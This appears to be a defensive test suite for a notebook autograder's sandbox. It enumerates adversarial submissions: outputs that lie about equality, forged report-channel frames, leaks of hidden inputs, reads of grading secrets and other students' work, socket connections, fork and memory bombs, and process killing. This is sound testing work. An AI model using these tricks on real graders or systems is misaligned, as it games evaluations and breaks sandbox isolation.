                  return refimpl.relu(Z)
              except BaseException:
                  return np.zeros(np.shape(Z))
          """),
          after("test_relu", """
          builtins.isinstance, builtins.RuntimeError = _real_isinstance, _real_runtime_error
          """)), RELU0, USED),
    Case("import-hook-over-builtins-import", "3-watch", N01,
         (replace("relu", """
          import builtins, types
          _real_import = builtins.__import__
          _saved = refimpl
          _fake = types.ModuleType("refimpl")
          def _import(name, globals=None, locals=None, fromlist=(), level=0):
              if name.partition(".")[0] in ("refimpl", "autograder") and level == 0:
                  return _fake
              return _real_import(name, globals, locals, fromlist, level)
          builtins.__import__ = _import
          def relu(Z):
              return _saved.relu(Z)
          """), after("test_relu", "builtins.__import__ = _real_import")), RELU0, USED),
    Case("result-equal-to-everything", "3-watch", N01,
         (replace("relu", """
          class _Equal:
              def __init__(self, shape):
                  self.shape, self.dtype, self.ndim = shape, np.dtype(float), len(shape)
              def __eq__(self, other):
                  return True
              def __ne__(self, other):
                  return False
              __hash__ = object.__hash__
              def __array__(self, dtype=None, copy=None):
                  return np.zeros(self.shape)
          def relu(Z):
              return _Equal(np.shape(Z))
          """),), RELU0),
    Case("ndarray-subclass-that-lies", "3-watch", N01,
         (replace("relu", """
          class _Liar(np.ndarray):
              def __eq__(self, other):
                  return np.ones(np.shape(self), dtype=bool)
              def __ne__(self, other):
                  return np.zeros(np.shape(self), dtype=bool)
              def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                  shape = np.broadcast_shapes(*(np.shape(i) for i in inputs))
                  if ufunc in (np.isclose, np.equal, np.less_equal, np.greater_equal):
                      return np.ones(shape, dtype=bool)
                  return np.zeros(shape)
          def relu(Z):
              return np.zeros(np.shape(Z)).view(_Liar)
          """),), RELU0),
    Case("result-that-changes-when-read-again", "3-watch", N01,
         (replace("relu", """
          class _Shifty(list):
              reads = 0
              def __init__(self, Z):
                  super().__init__(np.zeros(np.shape(Z)).tolist() if np.ndim(Z) else [0.0])
                  self.Z = Z
              def __iter__(self):
                  type(self).reads += 1
                  if type(self).reads > 1:  # the first read looks innocent
                      try:
                          return iter(np.atleast_1d(refimpl.relu(self.Z)).tolist())
                      except Exception:
                          pass
                  return super().__iter__()
              def __array__(self, dtype=None, copy=None):
                  return np.asarray(refimpl.relu(self.Z))
          def relu(Z):
              return _Shifty(Z)
          """),), RELU0),
    Case("lazy-result-calls-the-reference-when-read", "3-watch", N01,
         (replace("relu", """
          class _Lazy:
              def __init__(self, Z):
                  self.Z = Z
              def __array__(self, dtype=None, copy=None):
                  return np.asarray(refimpl.relu(self.Z), dtype=dtype)
              def __getattr__(self, name):
                  return getattr(np.asarray(refimpl.relu(self.Z)), name)
              def __len__(self):
                  return len(np.asarray(refimpl.relu(self.Z)))
          def relu(Z):
              return _Lazy(Z)
          """),), RELU0),
    Case("patch-the-worker-internals", "3-watch", N01,
         (replace("relu", """
          import sys
          for name, module in list(sys.modules.items()):
              if not name.startswith("backprop_worker"):
                  continue
              for attr, value in list(vars(module).items()):
                  if isinstance(value, type) and issubclass(value, BaseException):
                      continue
                  if attr.isupper() and isinstance(value, int) and not isinstance(value, bool):
                      setattr(module, attr, value * 100)
          try:
              from backprop_worker import standin
              standin.ReferenceUnavailable = type("Nothing", (BaseException,), {})
          except Exception as error:
              print("no standin:", type(error).__name__)
          def relu(Z):
              try:
                  return refimpl.relu(Z)
              except BaseException:
                  return np.zeros(np.shape(Z))
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None}, USED,
         note="the worker is the learner's to break: later checks are not specified"),
    Case("endless-loop-in-the-graded-function", "3-watch", N01,
         (replace("relu", "def relu(Z):\n    while True:\n        pass"),), RELU0,
         frozenset({"timeout"}), cell_seconds=3),
    Case("learner-cell-swallows-the-interruption", "3-watch", N01,
         (before("test_neuron", """
          import time
          while True:
              try:
                  while True:
                      time.sleep(0.05)
              except BaseException:
                  pass
          """),), NEURON0, frozenset({"timeout"}), cell_seconds=3,
         note="the worker is stopped: the checks after the cell are not graded, with a reason"),
]


# ---------------------------------------------------------------------------------------
# 4. Forging the report channel
# ---------------------------------------------------------------------------------------

# A frame of the worker's own format: the attacker can read the worker's code in the sandbox.
_FRAMES = """
import os, struct, sys
try:
    from backprop_worker import codec as _codec
    def _frame(value):
        return _codec.frame(value)
except Exception as error:
    print("no codec:", type(error).__name__)
    def _frame(value):
        body = repr(value).encode()
        return struct.pack("!I", len(body)) + body

def _honest_attempt(inputs):
    return {"fn_name": "relu", "not_callable": None, "bind_error": None, "signature": "(Z)",
            "observations": [{"output": np.maximum(np.asarray(Z, dtype=float), 0.0),
                              "error": None, "args": (np.asarray(Z, dtype=float),), "kwargs": {},
                              "fp_errors": [], "warnings": [], "forbidden_fp": []}
                             for Z in inputs]}

def _probe_reply(index, position, inputs):
    return _frame({"kind": "probe", "index": index, "position": position,
                   "attempt": _honest_attempt(inputs), "timed_out": False, "seconds": 0.01})

def _channel_fds():
    fds = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd > 2:
            try:
                flags = __import__("fcntl").fcntl(fd, __import__("fcntl").F_GETFL)
            except OSError:
                continue
            if flags & (os.O_WRONLY | os.O_RDWR):
                fds.append(fd)
    return fds

def _channel():
    import gc
    return next((o for o in gc.get_objects() if type(o).__name__ == "Channel"), None)
"""

_TEST_RELU_INDEX = "@@INDEX:test_relu@@"


FOUR = [
    Case("frames-written-to-fd-1-during-the-check", "4-channel", N01,
         (replace("relu", _FRAMES, f"""
          def relu(Z):
              reply = _probe_reply({_TEST_RELU_INDEX}, 0, [Z])
              os.write(1, reply * 3)
              return np.abs(np.asarray(Z, dtype=float))
          """),), RELU0),
    Case("frames-written-to-sys-stdout-buffer", "4-channel", N01,
         (replace("relu", _FRAMES, WRONG_RELU, f"""
          for position in (0, 1):
              sys.__stdout__.buffer.write(_probe_reply({_TEST_RELU_INDEX}, position, [np.ones(3)]))
              sys.__stdout__.flush()
          print(_frame({{"kind": "cell", "index": 99}}).decode("latin-1"))
          """),), RELU0),
    Case("garbage-on-every-writable-descriptor", "4-channel", N01,
         (replace("relu", _FRAMES, WRONG_RELU, """
          for fd in _channel_fds():
              try:
                  os.write(fd, b"GARBAGE-NOT-A-FRAME" * 10)
                  print("wrote to", fd)
              except OSError as error:
                  print("fd", fd, type(error).__name__)
          """),), {"test_relu": 0, "test_sigmoid": 0, "test_neuron": 0},
         frozenset({"tampered"}),
         note="the channel breaks: every later check is not graded, with the reason"),
    Case("valid-reply-for-the-next-check-before-it-is-asked", "4-channel", N01,
         (replace("relu", _FRAMES, WRONG_RELU, f"""
          _c = _channel()
          print("channel found:", _c is not None)
          replies = [_probe_reply({_TEST_RELU_INDEX}, position, [np.ones(3)])
                     for position in (0, 1)]
          for reply in replies:
              if _c is not None:
                  _c.outbound.write(reply)
              else:
                  for fd in _channel_fds():
                      os.write(fd, reply)
          """),), {"test_relu": 0, "test_sigmoid": 0, "test_neuron": 0},
         frozenset({"tampered"}),
         note="an answer to a question not asked: the worker is stopped, later checks not graded"),
    Case("forged-reply-inside-the-check-then-the-real-one", "4-channel", N01,
         (replace("relu", _FRAMES, f"""
          _sent = []
          def relu(Z):
              if not _sent:
                  _sent.append(True)
                  _c = _channel()
                  import inspect
                  cases = []
                  for frame in inspect.stack():  # the probe's request holds every input
                      request = frame.frame.f_locals.get("request")
                      if isinstance(request, dict) and "cases" in request:
                          cases = [np.asarray(c["args"][0], dtype=float) for c in request["cases"]]
                          position = request["position"]
                  if _c is not None and cases:
                      _c.outbound.write(_probe_reply({_TEST_RELU_INDEX}, position, cases))
              return np.abs(np.asarray(Z, dtype=float))
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         frozenset({"tampered"}),
         note="two answers to one question; after it, the worker is stopped"),
    Case("huge-length-header", "4-channel", N01,
         (before("test_neuron", _FRAMES, """
          _c = _channel()
          header = struct.pack("!I", 2**32 - 1) + b"x" * 64
          if _c is not None:
              _c.outbound.write(header)
          else:
              for fd in _channel_fds():
                  os.write(fd, header)
          """),), NEURON0, frozenset({"tampered"})),
    Case("channel-descriptors-closed", "4-channel", N01,
         (before("test_neuron", """
          import os
          for fd in range(0, 64):
              if fd != 2:
                  try:
                      os.close(fd)
                  except OSError:
                      pass
          """),), NEURON0, attention_any=frozenset({"crashed", "tampered", "error"})),
    Case("os-exit-0-before-the-test-cell", "4-channel", N01,
         (before("test_relu", "import os\nos._exit(0)"),),
         {"test_relu": 0, "test_sigmoid": 0, "test_neuron": 0},
         attention_any=frozenset({"crashed", "error", "tampered"}),
         extra=lambda g: _not_graded_with_reason(g, "test_relu")),
    Case("sys-exit-in-the-graded-function", "4-channel", N01,
         (replace("relu", "import sys\ndef relu(Z):\n    sys.exit(0)"),), RELU0,
         note="SystemExit is the learner's exception: the later checks still run"),
    Case("real-replies-suppressed-by-dup2", "4-channel", N01,
         (replace("relu", _FRAMES, """
          def relu(Z):
              devnull = os.open(os.devnull, os.O_WRONLY)
              for fd in _channel_fds():
                  os.dup2(devnull, fd)
              return np.maximum(Z, 0.0)
          """),), {"test_relu": 0, "test_sigmoid": 0, "test_neuron": 0},
         attention_any=frozenset({"timeout", "crashed", "tampered"}), cell_seconds=3,
         note="a missing report is a failure with a reason, never a pass"),
    Case("forged-call-frames-for-reference-handles", "4-channel", N01,
         (replace("relu", _FRAMES, """
          def relu(Z):
              _c = _channel()
              for handle in (_codec.Handle(0, "relu"), _codec.Handle(0, "activations.relu"),
                             _codec.Handle(1, "relu"), _codec.Handle(0, "_backward")):
                  try:
                      return np.asarray(_c.call(handle, (np.asarray(Z, dtype=float),), {}))
                  except Exception as error:
                      pass
              return np.zeros(np.shape(Z))
          """),), RELU0, USED),
]


def _not_graded_with_reason(graded, grade_id: str) -> None:
    text = graded.cell_text(index_of(graded.nb, grade_id))
    assert "not graded" in text, text
    assert any(o.output_type == "error" for o in graded.nb.cells[index_of(graded.nb,
                                                                           grade_id)].outputs)


# ---------------------------------------------------------------------------------------
# 5. Harvesting hidden inputs
# ---------------------------------------------------------------------------------------

def _no_hidden_inputs(graded) -> None:
    leaked = graded.hidden_inputs_in_outputs("relu")
    assert not leaked, f"hidden inputs reached the graded notebook: {leaked[:10]}"


FIVE = [
    Case("relu-prints-its-hidden-inputs", "5-harvest", N01,
         (replace("relu", VISIBLE_AWARE, """
          import sys, warnings
          def relu(Z):
              if _is_visible(Z):
                  return np.maximum(Z, 0.0)
              values = repr(np.asarray(Z, dtype=float).ravel().tolist())
              print("inputs", values)
              print("inputs", values, file=sys.stderr)
              print("inputs", values, file=sys.__stdout__, flush=True)
              print("inputs", values, file=sys.__stderr__, flush=True)
              return np.zeros(np.shape(Z))
          """),), RELU0, extra=_no_hidden_inputs),
    Case("hidden-inputs-in-an-exception-message", "5-harvest", N01,
         (replace("relu", VISIBLE_AWARE, """
          def relu(Z):
              if _is_visible(Z):
                  return np.maximum(Z, 0.0)
              raise ValueError("inputs " + repr(np.asarray(Z, dtype=float).ravel().tolist()))
          """),), RELU0, extra=_no_hidden_inputs),
    Case("hidden-inputs-in-a-warning", "5-harvest", N01,
         (replace("relu", VISIBLE_AWARE, """
          import warnings
          def relu(Z):
              if _is_visible(Z):
                  return np.maximum(Z, 0.0)
              warnings.warn("inputs " + repr(np.asarray(Z, dtype=float).ravel().tolist()))
              return np.zeros(np.shape(Z))
          """),), RELU0, extra=_no_hidden_inputs),
    Case("hidden-inputs-in-the-result-type-name", "5-harvest", N01,
         (replace("relu", VISIBLE_AWARE, """
          def relu(Z):
              if _is_visible(Z):
                  return np.maximum(Z, 0.0)
              name = "inputs " + repr(np.asarray(Z, dtype=float).ravel().tolist())
              return type(name, (), {"__repr__": lambda self: name})()
          """),), RELU0, extra=_no_hidden_inputs),
    Case("hidden-inputs-returned-as-the-result", "5-harvest", N01,
         (replace("relu", VISIBLE_AWARE, """
          def relu(Z):
              if _is_visible(Z):
                  return np.maximum(Z, 0.0)
              return np.array(Z, dtype=float)  # the input itself: wrong wherever z < 0
          """),), RELU0, extra=_no_hidden_inputs),
    Case("hidden-inputs-in-the-crash-message", "5-harvest", N01,
         (replace("relu", VISIBLE_AWARE, """
          import os, sys
          def relu(Z):
              if _is_visible(Z):
                  return np.maximum(Z, 0.0)
              values = repr(np.asarray(Z, dtype=float).ravel().tolist())
              sys.__stderr__.write("inputs " + values + "\\n")
              sys.__stderr__.flush()
              os._exit(3)
          """),), {"test_relu": 0, "test_sigmoid": 0, "test_neuron": 0},
         attention_any=frozenset({"crashed"}), extra=_no_hidden_inputs),
    Case("hidden-inputs-printed-by-a-later-cell", "5-harvest", N01,
         (replace("relu", VISIBLE_AWARE, """
          _SEEN = []
          def relu(Z):
              if _is_visible(Z):
                  return np.maximum(Z, 0.0)
              _SEEN.append(np.asarray(Z, dtype=float).ravel().tolist())
              return np.zeros(np.shape(Z))
          """), after("test_relu", """
          print("seen during the hidden check:", _SEEN)
          with open("seen.txt", "w") as stream:
              stream.write(repr(_SEEN))
          """), before("test_sigmoid", """
          import os
          print(open("seen.txt").read() if os.path.exists("seen.txt") else "no file")
          """)), RELU0, extra=_no_hidden_inputs,
         note="the issue: nothing the learner's code sees during the hidden cases reaches the "
              "notebook"),
]


# ---------------------------------------------------------------------------------------
# 6. Isolation
# ---------------------------------------------------------------------------------------

def _setup_bob(ctx: Ctx) -> None:
    folder = ctx.course / "submitted" / "bob" / "01_neuron"
    folder.mkdir(parents=True)
    (folder / "01_neuron.ipynb").write_text(f'{{"bob": "BOB-ANSWERS-{ctx.mark}"}}')


def _no_text(*texts: Callable[[Any], str]):
    def extra(graded) -> None:
        everything = graded.all_text()
        for text_of in texts:
            text = text_of(graded)
            assert text not in everything, f"{text!r} reached the graded notebook"
        _no_leak_marker(graded)

    return extra


def _secret_of(graded) -> str:
    return (graded.ctx.course / "grading_secret").read_text().strip()


def _setup_tcp(ctx: Ctx) -> None:
    import socket
    import threading

    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    ctx.port = server.getsockname()[1]
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, peer = server.accept()
            except OSError:
                continue
            ctx.connections.append(f"tcp from {peer}")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    ctx.cleanups.append(lambda: (stop.set(), thread.join(2), server.close()))


def _setup_unix(ctx: Ctx) -> None:
    import socket
    import threading

    path = ctx.tmp / "grader.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(8)
    server.settimeout(0.2)
    ctx.sock = str(path)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            ctx.connections.append("unix socket")
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    ctx.cleanups.append(lambda: (stop.set(), thread.join(2), server.close()))


def _no_connections(graded) -> None:
    assert graded.ctx.connections == [], graded.ctx.connections
    _no_leak_marker(graded)


def _host_processes_with(mark: str) -> list[int]:
    import os

    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as stream:
                if mark.encode() in stream.read():
                    found.append(int(name))
        except OSError:
            pass
    return found


def _no_survivors(graded) -> None:
    import os
    import signal
    import time

    stop = time.monotonic() + 3
    while (alive := _host_processes_with(graded.ctx.mark)) and time.monotonic() < stop:
        time.sleep(0.1)
    for pid in alive:  # processes this test started (through the submission): end them
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
    assert not alive, f"processes of the submission outlived grading: {alive}"


def _printed(graded, grade_id: str, words: str) -> None:
    """The attack really ran: its cell printed ``words``."""
    text = graded.cell_text(index_of(graded.nb, grade_id))
    assert words in text, f"the attack did not run as planned: {text[-1500:]}"


def _sandbox_memory(graded) -> None:
    text = graded.cell_text(index_of(graded.nb, "relu"))
    held = [line for line in text.splitlines() if line.startswith("held together:")]
    assert held, f"the attack did not run as planned: {text[-1500:]}"
    count = int(held[-1].split(":")[1])
    assert count <= 2, f"{count} processes held 1.5 GiB each at once: the memory limit is " \
                       "not the whole sandbox's"


def _grader_survives(graded) -> None:
    graded.honest_regrade_works()


_WRITE_TARGETS = ("@@REPO@@/course/pwned-@@MARK@@", "@@COURSE@@/pwned-@@MARK@@",
                  "@@TMP@@/pwned-@@MARK@@", "/tmp/pwned-@@MARK@@", "/root/pwned-@@MARK@@",
                  "@@NUMPY_DIR@@/pwned-@@MARK@@", "@@WORKER_DIR@@/pwned-@@MARK@@",
                  "@@REPO@@/refimpl/pwned-@@MARK@@")


def _setup_write_targets(ctx: Ctx) -> None:
    import numpy

    ctx.facts["numpy_dir"] = Path(numpy.__file__).parent
    ctx.facts["worker_dir"] = REPO / "autograder" / "grading" / "worker"


def _nothing_written(graded) -> None:
    written = []
    for target in _WRITE_TARGETS:
        path = Path(fill(target, graded.ctx))
        if path.exists():
            written.append(str(path))
            path.unlink()
    assert not written, f"the submission wrote outside its scratch folder: {written}"


SIX = [
    Case("read-the-course-folder", "6-isolation", N01,
         (replace("relu", WRONG_RELU, f"""
          import os
          for folder, dirs, files in os.walk("@@COURSE@@"):
              for name in files:
                  try:
                      print({LEAK}, name, open(os.path.join(folder, name)).read()[:500])
                  except OSError as error:
                      print("no", name, type(error).__name__)
          print("listing:", os.path.exists("@@COURSE@@"))
          """),), RELU0, isolation=True, setup=_setup_bob, extra=_no_text(_secret_of)),
    Case("read-another-students-submission", "6-isolation", N01,
         (replace("relu", WRONG_RELU, f"""
          for path in ("@@COURSE@@/submitted/bob/01_neuron/01_neuron.ipynb",
                       "/proc/1/root@@COURSE@@/submitted/bob/01_neuron/01_neuron.ipynb"):
              try:
                  print({LEAK}, open(path).read())
              except OSError as error:
                  print("no", type(error).__name__)
          """),), RELU0, isolation=True, setup=_setup_bob,
         extra=_no_text(lambda g: f"BOB-ANSWERS-{g.ctx.mark}")),
    Case("read-the-source-notebooks", "6-isolation", N01,
         (replace("relu", WRONG_RELU, f"""
          for path in ("@@REPO@@/course/source/01_neuron/01_neuron.ipynb",
                       "@@REPO@@/course/source/06_backprop/06_backprop.ipynb"):
              try:
                  print({LEAK}, open(path).read()[:3000])
              except OSError as error:
                  print("no", type(error).__name__)
          """),), RELU0, isolation=True, extra=_no_text(lambda g: "### BEGIN SOLUTION")),
    Case("read-the-grading-secret", "6-isolation", N01,
         (replace("relu", WRONG_RELU, f"""
          import os
          for path in ("@@COURSE@@/grading_secret", "/proc/1/root@@COURSE@@/grading_secret"):
              try:
                  print({LEAK}, open(path).read())
              except OSError as error:
                  print("no", type(error).__name__)
          print({{k: v for k, v in os.environ.items()}})
          """),), RELU0, isolation=True, extra=_no_text(_secret_of)),
    Case("connect-to-a-host-tcp-port", "6-isolation", N01,
         (replace("relu", WRONG_RELU, f"""
          import socket
          for host in ("127.0.0.1", "localhost", "::1", "10.0.2.2"):
              try:
                  socket.create_connection((host, @@PORT@@), timeout=1).sendall(b"@@MARK@@")
                  print({LEAK}, "connected", host)
              except OSError as error:
                  print("no", host, type(error).__name__)
          """),), RELU0, isolation=True, setup=_setup_tcp, extra=_no_connections),
    Case("connect-to-a-host-unix-socket", "6-isolation", N01,
         (replace("relu", WRONG_RELU, f"""
          import socket
          for path in ("@@SOCK@@", "/proc/1/root@@SOCK@@"):
              try:
                  s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                  s.settimeout(1)
                  s.connect(path)
                  print({LEAK}, "connected", path)
              except OSError as error:
                  print("no", type(error).__name__)
          """),), RELU0, isolation=True, setup=_setup_unix, extra=_no_connections),
    Case("kill-the-parent", "6-isolation", N01,
         (replace("relu", """
          import os, signal
          def relu(Z):
              for pid in (os.getppid(), 1):
                  try:
                      os.kill(pid, signal.SIGKILL)
                  except OSError as error:
                      pass
              return np.zeros(np.shape(Z))
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         isolation=True, extra=_grader_survives,
         note="inside a PID namespace the kill may end the sandbox itself: later checks are "
              "not specified; the grader must survive"),
    Case("setsid-daemon-outlives-grading", "6-isolation", N01,
         (replace("relu", WRONG_RELU, """
          import os, sys, time
          if os.fork() == 0:
              try:
                  os.setsid()
                  if os.fork() == 0:
                      os.execv(sys.executable, [sys.executable, "-c",
                                                "import time; time.sleep(120)", "@@MARK@@"])
              finally:
                  os._exit(0)
          time.sleep(0.5)
          def _running(mark):
              for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
                  try:
                      if mark in open(f"/proc/{pid}/cmdline", "rb").read():
                          return True
                  except OSError:
                      pass
              return False
          print("daemon running:", _running(b"@@MARK@@"))
          """),), RELU0,
         extra=lambda g: (_no_survivors(g), _printed(g, "relu", "daemon running: True")),
         note="every process is gone when grading ends, with or without namespaces"),
    Case("fork-bomb-bounded-at-300", "6-isolation", N01,
         (replace("relu", WRONG_RELU, """
          import os, sys, time
          children = 0
          for i in range(300):
              try:
                  pid = os.fork()
              except OSError as error:
                  print("fork refused after", children, type(error).__name__)
                  break
              if pid == 0:
                  try:
                      if i % 50 == 0:
                          os.execv(sys.executable, [sys.executable, "-c",
                                                    "import time; time.sleep(60)", "@@MARK@@"])
                      time.sleep(20)
                  finally:
                      os._exit(0)
              children += 1
          print("children:", children)
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         extra=lambda g: (_no_survivors(g), _grader_survives(g)),
         note="the process limit may leave the worker unable to go on: later checks are not "
              "specified"),
    Case("memory-bomb-8-gib", "6-isolation", N01,
         (replace("relu", """
          def relu(Z):
              try:
                  block = np.ones(2**30)  # 8 GiB of float64, every page touched
                  block[::4096] = 2.0
              except MemoryError:
                  pass
              return np.zeros(np.shape(Z))
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         extra=_grader_survives,
         note="a memory limit of the whole sandbox may kill the worker: later checks are not "
              "specified"),
    Case("memory-bomb-6-gib-across-four-processes", "6-isolation", N01,
         (replace("relu", WRONG_RELU, """
          import os, select, signal, time
          children = {}
          for _ in range(4):
              r, w = os.pipe()
              pid = os.fork()
              if pid == 0:
                  try:
                      os.close(r)
                      blocks = [np.ones(2**25) for _ in range(6)]  # 1.5 GiB, every page touched
                      os.write(w, b"1")
                      time.sleep(30)
                  finally:
                      os._exit(0)
              os.close(w)
              children[r] = pid
          reported, waiting, stop = [], set(children), time.monotonic() + 15
          while waiting and time.monotonic() < stop:
              ready, _, _ = select.select(list(waiting), [], [], 0.5)
              for r in ready:
                  if os.read(r, 1):
                      reported.append(children[r])
                  waiting.discard(r)
          alive = [pid for pid in reported if os.waitpid(pid, os.WNOHANG) == (0, 0)]
          print("held together:", len(alive))
          for pid in children.values():
              try:
                  os.kill(pid, signal.SIGKILL)
                  os.waitpid(pid, 0)
              except OSError:
                  pass
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         extra=lambda g: (_sandbox_memory(g), _grader_survives(g)),
         note="the issue: memory is limited for the whole sandbox, not per process (4 GiB); "
              "the limit may kill the worker: later checks are not specified"),
    Case("write-outside-the-scratch-folder", "6-isolation", N01,
         (replace("relu", WRONG_RELU, f"""
          import os
          for path in {list(_WRITE_TARGETS)!r}:
              try:
                  with open(path, "w") as stream:
                      stream.write("pwned")
                  print({LEAK}, "wrote", path)
              except OSError as error:
                  print("no", path, type(error).__name__)
          try:
              import backprop_worker
              path = os.path.join(os.path.dirname(backprop_worker.__file__), "pwned-@@MARK@@")
              open(path, "w").write("pwned")
              print({LEAK}, "wrote", path)
          except OSError as error:
              print("worker folder:", type(error).__name__)
          """),), RELU0, isolation=True, setup=_setup_write_targets,
         extra=lambda g: (_nothing_written(g), _no_leak_marker(g))),
]


# ---------------------------------------------------------------------------------------
# 7. Bounded reading
# ---------------------------------------------------------------------------------------

def _bounded(graded) -> None:
    size = sum(len(graded.cell_text(i)) for i in range(len(graded.nb.cells)))
    assert size < 2 * 2**20, f"the graded notebook holds {size} characters of output"
    grown = graded.rss_growth_mib()
    assert grown < 512, f"the grader's memory grew by {grown:.0f} MiB"


SEVEN = [
    Case("print-200-mb-in-a-cell", "7-bounds", N01,
         (replace("relu", WRONG_RELU, """
          import sys
          chunk = "x" * (1 << 20)
          for _ in range(200):
              sys.stdout.write(chunk)
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         extra=_bounded, note="the worker may run out of memory keeping it: later checks are "
                              "not specified"),
    Case("stderr-100-mb-line-by-line", "7-bounds", N01,
         (replace("relu", WRONG_RELU, """
          import sys
          line = "e" * 99 + "\\n"
          for _ in range(1_000_000):
              sys.__stderr__.write(line)
          sys.__stderr__.flush()
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         extra=_bounded, max_seconds=12,
         note="past the stderr cap the worker is killed (the issue), not left blocked until "
              "the cell's time limit (20 s here); later checks are not specified"),
    Case("relu-returns-a-2-gib-array", "7-bounds", N01,
         (replace("relu", """
          def relu(Z):
              try:
                  return np.zeros(2**28)  # 2 GiB of float64
              except MemoryError:
                  return np.zeros(2**20)
          """),), {"test_relu": 0, "test_sigmoid": None, "test_neuron": None},
         extra=lambda g: (_bounded(g), _grader_survives(g), _failed_with_a_reason(g, "test_relu"))),
    Case("exception-with-a-100-mb-message", "7-bounds", N01,
         (replace("relu", """
          def relu(Z):
              raise ValueError("m" * (100 * 2**20))
          """),), RELU0, extra=_bounded,
         note="the worker bounds what it carries (exception texts too): the later checks run"),
    Case("result-nested-100000-deep", "7-bounds", N01,
         (replace("relu", """
          def relu(Z):
              out = []
              for _ in range(100_000):
                  out = [out]
              return out
          """),), RELU0, extra=_bounded),
]


def _failed_with_a_reason(graded, grade_id: str) -> None:
    cell = graded.record_cell(grade_id)
    assert cell.points == 0
    assert any(not c.passed and c.stage for c in cell.checks) or "not graded" in \
        graded.cell_text(index_of(graded.nb, grade_id)), cell
    assert graded.cell_text(index_of(graded.nb, grade_id)).strip(), "no message"


# ---------------------------------------------------------------------------------------
# Honest but unusual
# ---------------------------------------------------------------------------------------

HONEST = [
    Case("relu-with-np-where", "honest", N01,
         (replace("relu", "def relu(Z):\n    Z = np.asarray(Z, dtype=float)\n"
                          "    return np.where(Z > 0, Z, 0.0)"),)),
    Case("relu-python-loop-over-nditer", "honest", N01,
         (replace("relu", """
          def relu(Z):
              Z = np.asarray(Z, dtype=float)
              out = np.empty_like(Z)
              with np.nditer([Z, out], op_flags=[["readonly"], ["writeonly"]]) as it:
                  for z, o in it:
                      o[...] = z if z > 0 else 0.0
              return out
          """),)),
    Case("relu-instance-with-call", "honest", N01,
         (replace("relu", """
          class Rectifier:
              def __init__(self, floor):
                  self.floor = floor
              def __call__(self, Z):
                  return np.maximum(np.asarray(Z, dtype=float), self.floor)
          relu = Rectifier(0.0)
          """),)),
    Case("relu-functools-partial", "honest", N01,
         (replace("relu", """
          import functools
          relu = functools.partial(np.maximum, 0.0)
          """),)),
    Case("relu-lambda", "honest", N01,
         (replace("relu", "relu = lambda Z: np.maximum(np.asarray(Z, dtype=float), 0.0)"),)),
    Case("relu-helper-in-another-learner-cell", "honest", N01,
         (before("relu", """
          def clip_below(values, floor):
              return np.maximum(np.asarray(values, dtype=float), floor)
          """), replace("relu", "def relu(Z):\n    return clip_below(Z, 0.0)"))),
    Case("relu-prints-and-warns-a-lot", "honest", N01,
         (replace("relu", """
          import sys, warnings
          def relu(Z):
              for i in range(200):
                  print("step", i, np.shape(Z))
              print("debugging", file=sys.stderr)
              warnings.warn("a learner's own warning")
              return np.maximum(Z, 0.0)
          print("relu defined", file=sys.stderr)
          """),)),
    Case("magics-timeit-and-time", "honest", N01,
         (after("relu", "%timeit -n 3 -r 1 relu(np.linspace(-1, 1, 100))"),
          after("test_relu", "%%time\nprint(relu(np.array([-1.0, 2.0])))"))),
    Case("matplotlib-in-the-solution-cell", "honest", N01,
         (replace("relu", HONEST_RELU, """
          import matplotlib.pyplot as plt
          zs = np.linspace(-3, 3, 61)
          fig, ax = plt.subplots()
          ax.plot(zs, relu(zs))
          ax.set_title("relu")
          plt.show()
          """),)),
    Case("sigmoid-with-math-and-recursion", "honest", N01,
         (replace("sigmoid", """
          import math
          def _one(z):
              if z >= 0:
                  return 1.0 / (1.0 + math.exp(-z))
              e = math.exp(z)
              return e / (1.0 + e)
          def sigmoid(Z):
              Z = np.asarray(Z, dtype=float)
              if Z.ndim == 0:
                  return np.asarray(_one(float(Z)))
              return np.array([sigmoid(row) for row in Z], dtype=float).reshape(Z.shape)
          """),)),
    Case("sigmoid-np-vectorize", "honest", N01,
         (replace("sigmoid", """
          import math
          def _scalar(z):
              return 1.0 / (1.0 + math.exp(-z)) if z >= 0 else math.exp(z) / (1.0 + math.exp(z))
          _vectorized = np.vectorize(_scalar, otypes=[float])
          def sigmoid(Z):
              return _vectorized(np.asarray(Z, dtype=float))
          """),)),
    Case("learner-calls-check-in-own-cell", "honest", N01,
         (after("relu", "check.relu(relu)\ncheck.relu(relu, hidden=True)"),
          after("sigmoid", "check.sigmoid(sigmoid)"))),
    Case("unrelated-cell-with-a-syntax-error", "honest", N01,
         (before("test_sigmoid", "def broken(:\n    pass"),)),
    Case("unrelated-cell-that-raises", "honest", N01,
         (before("test_neuron", "raise RuntimeError('an experiment that went wrong')"),)),
    Case("neuron-cell-reads-study-sleep-data", "honest", N01,
         (replace("neuron", """
          def neuron(X, w, b, activation):
              z = X @ w + b
              return activation(z)
          X_data, y_data = refimpl.study_sleep()
          print("first outputs:", neuron(X_data[:3], np.array([0.5, 0.5]), -6.0, sigmoid))
          """),)),
    Case("forward-231-with-the-notebooks-reference-relu-and-sigmoid", "honest", "02_forward",
         ()),
